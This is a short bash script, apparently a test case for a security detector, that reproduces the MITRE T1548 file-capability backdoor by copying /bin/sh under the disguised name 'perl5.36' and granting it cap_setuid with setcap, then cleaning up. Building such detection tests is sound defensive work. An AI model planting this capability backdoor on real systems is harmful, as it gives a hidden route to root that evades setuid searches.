#!/bin/bash
# technique: T1548 Abuse Elevation Control Mechanism (file capabilities)
# reproduces: capability backdoors (`setcap cap_setuid+ep` on a copy of an interpreter), the quieter cousin of a setuid shell that `find -perm -4000` does not list (GTFOBins "Capabilities")
# expect: file-capability-set ^setcap$
# exec-borne: no
#
# Skipped (exit 77) when setcap (libcap2-bin) is not installed.
set -u

SETCAP=$(command -v setcap || { [ -x /usr/sbin/setcap ] && echo /usr/sbin/setcap; } || { [ -x /sbin/setcap ] && echo /sbin/setcap; }) ||
	{ echo "setcap not installed" >&2; exit 77; }

work="${BW_ATTACK_TMP:?}/perl-cache"
mkdir -p "$work"
trap 'rm -rf "$work"' EXIT

cp /bin/sh "$work/perl5.36"
"$SETCAP" cap_setuid+ep "$work/perl5.36" || exit 1
if command -v getcap >/dev/null; then getcap "$work/perl5.36"; fi
